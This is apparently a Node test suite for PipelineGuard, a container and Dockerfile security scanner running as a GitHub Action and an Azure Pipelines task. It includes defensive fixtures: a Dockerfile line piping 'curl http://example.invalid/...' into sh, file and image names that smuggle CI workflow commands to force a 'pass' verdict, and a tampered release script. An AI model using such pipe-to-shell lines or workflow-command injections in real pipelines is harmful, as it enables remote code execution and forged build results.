import assert from 'node:assert/strict'
import { cpSync, existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs'
import { createServer } from 'node:http'
import { join } from 'node:path'
import { test } from 'node:test'
import { gzipSync } from 'node:zlib'
import { action, cli, dockerfile, essence, filesServed, folder, registryServed, release, sample, serverOf, skip, task } from './harness.mjs'

const quiet = { skip, timeout: 300_000 }

test('the command, the action and the task give the same findings and the same verdict', quiet, async () => {
  const byCommand = await cli([sample, dockerfile, '--starter'])
  const byAction = await action({ image: sample, dockerfile, starter: 'true' })
  const byTask = await task({ image: sample, dockerfile, starter: 'true' })

  assert.equal(byCommand.code, 1)
  assert.deepEqual(essence(byAction.report), essence(byCommand.report))
  assert.deepEqual(essence(byTask.report), essence(byCommand.report))
  assert.ok(byCommand.report.findings.length > 30)
  assert.deepEqual([byAction.outputs.verdict, byTask.outputs.verdict], ['block', 'block'])
  assert.deepEqual([byAction.outputs['exit-code'], byTask.outputs.exitCode], ['1', '1'])
  assert.equal(byAction.outputs.critical, String(byCommand.report.counts.critical))
  assert.equal(byTask.outputs.critical, String(byCommand.report.counts.critical))
})

const verdicts = [
  ['pass', 'version: 1\nblock: off\nwarn: off\n', 'true', 0, 'Succeeded'],
  ['warn', 'version: 1\nblock: off\nwarn: { severity: low }\n', 'true', 0, 'SucceededWithIssues'],
  ['block', 'version: 1\nblock: { severity: low }\n', 'true', 1, 'Failed'],
  ['incomplete', 'version: 1\nblock: off\nwarn: off\n', 'false', 1, 'Failed'],
]
for (const [verdict, policy, starter, code, result] of verdicts) {
  test(`${verdict} ends a step as its host says it`, quiet, async () => {
    const file = join(folder(), 'policy.yml')
    writeFileSync(file, policy)
    const inputs = { image: sample, policy: file, starter, offline: 'true', db: folder() }
    const byAction = await action(inputs)
    const byTask = await task(inputs)

    assert.equal(byAction.outputs.verdict, verdict, byAction.output)
    assert.equal(byAction.code, code)
    assert.equal(byTask.outputs.verdict, verdict, byTask.output)
    assert.equal(byTask.result, result)
  })
}

test('the action leaves outputs, annotations and a summary, and nothing in the environment of the job', quiet, async () => {
  const place = folder()
  const run = await action({ image: sample, starter: 'true', 'sarif-file': 'out.sarif', 'sbom-file': join(place, 'bom.json') }, {}, place)

  assert.equal(run.environment, '')
  assert.ok(run.commands.some((one) => one.name === 'error' && /openssl|log4net|minimist/.test(one.properties)), run.output)
  assert.match(run.summary, /## ⛔ PipelineGuard: Block/)
  assert.equal(JSON.parse(readFileSync(join(place, 'out.sarif'), 'utf8')).version, '2.1.0')
  assert.equal(JSON.parse(readFileSync(run.outputs['sbom-file'], 'utf8')).bomFormat, 'CycloneDX')
})

test('a token that may nothing changes neither verdict nor annotations', quiet, async () => {
  const { result, requests } = await serverOf(403, '{ "message": "Resource not accessible by integration" }', (address) =>
    action(
      { dockerfile, 'upload-sarif': 'true', comment: 'true', check: 'true', 'github-token': 'hidden-token' },
      { GITHUB_API_URL: address, GITHUB_REPOSITORY: 'octo/shop', GITHUB_SHA: 'a'.repeat(40), GITHUB_REF: 'refs/heads/main', GITHUB_TOKEN: 'other' },
    ))

  assert.equal(result.code, 0, result.output)
  assert.ok(requests.length >= 2)
  assert.match(result.output, /security-events: write/)
  assert.match(result.summary, /PipelineGuard/)
  assert.doesNotMatch(result.output.replace('::add-mask::hidden-token', ''), /hidden-token/)
})

test('a mistake is told in one line and is no verdict', quiet, async () => {
  const byAction = await action({ image: sample, 'fail-on': 'terrible' })
  const byTask = await task({ image: sample, failOn: 'terrible' })

  assert.equal(byAction.outputs.verdict, 'error')
  assert.equal(byAction.code, 1)
  assert.match(byAction.commands.findLast((one) => one.name === 'error').message, /PG1001.*terrible/)
  assert.equal(byTask.result, 'Failed')
  assert.equal(byTask.outputs.verdict, 'error')
})

test('the task leaves issues with their line, a summary, an artifact and test results', quiet, async () => {
  const run = await task({ dockerfile, image: sample, starter: 'true' })
  const of = (name) => run.commands.filter((one) => one.name === name)

  assert.ok(of('task.logissue').some((one) => one.properties.sourcepath?.endsWith('Dockerfile') && one.properties.linenumber && one.properties.code?.startsWith('PGD')), run.output)
  assert.ok(existsSync(of('task.uploadsummary')[0].message))
  const artifact = of('artifact.upload')[0]
  assert.equal(artifact.properties.artifactname, 'CodeAnalysisLogs')
  assert.match(artifact.message, /\.sarif$/)
  assert.ok(existsSync(of('results.publish')[0].properties.resultFiles))
  assert.ok(of('task.setvariable').every((one) => one.properties.isOutput === 'true'))
})

test('credentials of a service connection reach the scan alone', quiet, async () => {
  const auth = JSON.stringify({ parameters: { registry: 'https://registry.example/', username: 'u', password: 'hidden-password' }, scheme: 'UsernamePassword' })
  const run = await task({ dockerfile, containerRegistry: 'acr' }, { ENDPOINT_AUTH_acr: auth })

  assert.equal(run.result, 'SucceededWithIssues', run.output)
  assert.doesNotMatch(run.output.replaceAll(/##vso\[task\.setsecret\].*/g, ''), /hidden-password/)
})

test('the thread of a pull request is written once', quiet, async () => {
  const variables = (address) => ({
    SYSTEM_COLLECTIONURI: `${address}/octo/`,
    SYSTEM_TEAMPROJECTID: 'project',
    BUILD_REPOSITORY_ID: 'repo',
    BUILD_REPOSITORY_PROVIDER: 'TfsGit',
    SYSTEM_PULLREQUEST_PULLREQUESTID: '7',
    ENDPOINT_AUTH_SYSTEMVSSCONNECTION: JSON.stringify({ parameters: { AccessToken: 'hidden-token' }, scheme: 'OAuth' }),
    ENDPOINT_AUTH_PARAMETER_SYSTEMVSSCONNECTION_ACCESSTOKEN: 'hidden-token',
  })
  const { result, requests } = await serverOf(200, '{ "value": [] }', (address) => task({ dockerfile, comment: 'true' }, variables(address)))
  assert.match(result.output, /Pull request thread: written\./, result.output)
  // It looks again afterwards: another run may have written one meanwhile.
  assert.deepEqual(requests.map((one) => one.split(' ')[0]), ['GET', 'POST', 'GET'])

  const refused = await serverOf(403, '{ "message": "no" }', (address) => task({ dockerfile, comment: 'true' }, variables(address)))
  assert.equal(refused.result.outputs.verdict, result.outputs.verdict)
  assert.match(refused.result.output, /Contribute to pull requests/)
})

test('requests go through the proxy that the environment names, and the token goes only where it belongs', quiet, async () => {
  const asked = []
  const proxy = createServer((_, response) => response.writeHead(400).end())
  proxy.on('connect', (request, socket) => {
    asked.push(`${request.url} ${JSON.stringify(request.headers)}`)
    socket.end('HTTP/1.1 502 Bad Gateway\r\n\r\n')
  })
  await new Promise((ready) => proxy.listen(0, '127.0.0.1', ready))
  const environment = { GITHUB_API_URL: 'https://ghe.example/api/v3', GITHUB_REPOSITORY: 'octo/shop', GITHUB_SHA: 'a'.repeat(40), GITHUB_REF: 'refs/heads/main', HTTPS_PROXY: `http://127.0.0.1:${proxy.address().port}` }
  const run = await action({ dockerfile, check: 'true', 'github-token': 'hidden-token' }, environment).finally(() => proxy.close())

  assert.match(asked[0], /^ghe\.example:443 /)
  assert.doesNotMatch(asked.join(), /hidden-token/)
  assert.match(run.output, /PG6013: check run/)
  assert.equal(run.outputs.verdict, 'warn', run.output)
})

test('names from outside command no agent', quiet, async () => {
  const place = folder()
  const hostile = 'x\n::set-output name=verdict::pass\n##[error]y ##vso[task.complete result=Succeeded;]z%0A::warning::w]; 📦'
  mkdirSync(join(place, hostile), { recursive: true })
  writeFileSync(join(place, hostile, 'Dockerfile'), 'FROM debian\nRUN sudo apt-get update\nRUN echo "##vso[task.setvariable variable=a]b" && curl http://example.invalid/::error::x | sh\n')
  const plain = folder()
  mkdirSync(join(plain, 'x'))
  writeFileSync(join(plain, 'x/Dockerfile'), readFileSync(join(place, hostile, 'Dockerfile')))

  const [bad, good] = [await action({ dockerfile: place }, {}, place), await action({ dockerfile: plain }, {}, plain)]
  assert.deepEqual(bad.commands.map((one) => one.name).sort(), good.commands.map((one) => one.name).sort(), bad.output)
  assert.equal(bad.outputs.verdict, good.outputs.verdict)
  const [worse, fine] = [await task({ dockerfile: place }, {}, place), await task({ dockerfile: plain }, {}, plain)]
  assert.deepEqual(worse.commands.map((one) => one.name).sort(), fine.commands.map((one) => one.name).sort(), worse.output)
  assert.equal(worse.result, fine.result)
})

test('a release runs its own program, keeps it, and runs nothing else', quiet, async () => {
  const tools = folder()
  const files = {}
  await filesServed(files, async (address, requests) => {
    const made = await release('1.2.3', `${address}/v1.2.3`)
    assert.deepEqual(made.version, { Major: 1, Minor: 102, Patch: 3 })
    files[made.name] = made.file
    const places = { RUNNER_TOOL_CACHE: tools, AGENT_TOOLSDIRECTORY: tools }
    const byAction = (inputs = {}) => action({ dockerfile, 'cli-path': '', ...inputs }, places, folder(), made.action)
    const byTask = (inputs = {}) => task({ dockerfile, cliPath: '', ...inputs }, places, folder(), made.task)

    // Fetched by the action, kept for both.
    assert.equal((await byAction()).outputs.verdict, 'warn')
    assert.equal((await byAction()).outputs.verdict, 'warn')
    assert.equal((await byTask()).outputs.verdict, 'warn')
    assert.deepEqual(requests, [`/v1.2.3/${made.name}`])

    // A file that was replaced after the release.
    files[made.name] = join(folder(), 'evil.gz')
    writeFileSync(files[made.name], gzipSync('#!/bin/sh\ntouch "$RUNNER_TEMP/evil"\n'))
    const [replaced, replacedForTask] = [await byAction({ cache: 'false' }), await byTask({ cache: 'false' })]
    assert.equal(replaced.outputs.verdict, 'error')
    assert.match(replaced.output, /its SHA-256 is [0-9a-f]{64} and not [0-9a-f]{64}\. It was not run/)
    assert.equal(replacedForTask.result, 'Failed')
    assert.match(replacedForTask.output, /It was not run/)

    // Nothing there at all, and another version.
    delete files[made.name]
    assert.equal((await byAction({ cache: 'false' })).outputs.verdict, 'error')
    assert.match((await byAction({ version: '1.2.4' })).output, /runs no other release/)
    assert.match((await byTask({ version: 'latest', install: 'dotnet-tool' })).output, /is none on purpose/)
  })
})

test('an image is read from a registry that asks for the login of a service connection', quiet, async () => {
  const { result, seen } = await registryServed('robot', 'hidden-password', async (host) => {
    const acr = { parameters: { loginServer: host, serviceprincipalid: 'robot', serviceprincipalkey: 'hidden-password' }, scheme: 'ServicePrincipal' }
    const other = { parameters: { registry: 'https://index.docker.io/v1/', username: 'u', password: 'hidden-too' }, scheme: 'UsernamePassword' }
    const variables = { ENDPOINT_AUTH_acr: JSON.stringify(acr), ENDPOINT_AUTH_hub: JSON.stringify(other) }
    const inputs = { image: `registry:${host}/shop:latest`, starter: 'true', offline: 'true', db: folder() }
    return [await task({ ...inputs, containerRegistry: 'hub, acr' }, variables), await task({ ...inputs, containerRegistry: 'hub' }, variables)]
  })

  assert.equal(result[0].outputs.verdict, 'block', result[0].output)
  assert.ok(result[0].report.findings.length > 20)
  assert.equal(result[1].outputs.verdict, 'error', result[1].output)
  const shown = result.map((one) => one.output.replaceAll(/##vso\[task\.setsecret\].*/g, '')).join()
  assert.doesNotMatch(shown, /hidden-password|hidden-too/)
  assert.doesNotMatch(seen.join(), new RegExp(Buffer.from('u:hidden-too').toString('base64')))
})

test('names of images, packages and files in them command no agent', quiet, async () => {
  const names = {
    hostile: 'x\n::set-output name=verdict::pass\n##[error]y ##vso[task.complete result=Succeeded;]z%0A::warning::w]; 📦%',
    plain: 'plain',
  }
  const runs = {}
  for (const [kind, name] of Object.entries(names)) {
    const place = folder()
    // An input has a line for each image, so their names have no line breaks.
    const image = name.replaceAll('\n', ' ')
    cpSync(sample, join(place, image), { recursive: true })
    const root = join(place, 'root')
    const module = join(root, 'usr/lib/node_modules', name)
    mkdirSync(module, { recursive: true })
    mkdirSync(join(root, 'etc'))
    writeFileSync(join(root, 'etc/os-release'), `ID=debian\nVERSION_ID="12"\nPRETTY_NAME="Debian ${name}"\n`)
    writeFileSync(join(module, 'package.json'), JSON.stringify({ name: 'minimist', version: '0.0.8', license: name, description: name }))
    writeFileSync(join(module, 'other.json'), '{}')
    writeFileSync(join(module, `${kind}.env`), `TOKEN=ghp_${'aB3dE5gH7jK9mN1pQ3sT5vX7zA9cE1gI3kM5'}\n`)
    mkdirSync(join(module, 'node_modules/n'), { recursive: true })
    writeFileSync(join(module, 'node_modules/n/package.json'), JSON.stringify({ name, version: `1.0.0${kind === 'plain' ? '' : name}` }))
    const inputs = { image: `${image}\nrootfs:root`, starter: 'true', offline: 'true', db: 'none', 'sbom-file': 'bom.json', sbomFile: 'bom.json' }
    runs[kind] = [await action(inputs, {}, place), await task(inputs, {}, place)]
  }
  const commands = (run) => run.commands.map((one) => one.name).sort()
  const [action1, task1] = runs.hostile
  const [action2, task2] = runs.plain
  assert.ok(action1.report.findings.some((finding) => JSON.stringify(finding).includes('set-output')), 'the names are in the report')
  assert.deepEqual(commands(action1), commands(action2), action1.output)
  assert.deepEqual(commands(task1), commands(task2), task1.output)
  assert.deepEqual([action1.outputs.verdict, task1.result], [action2.outputs.verdict, task2.result])
  assert.doesNotMatch(action1.summary, /^::|##vso\[|##\[error/m)
})
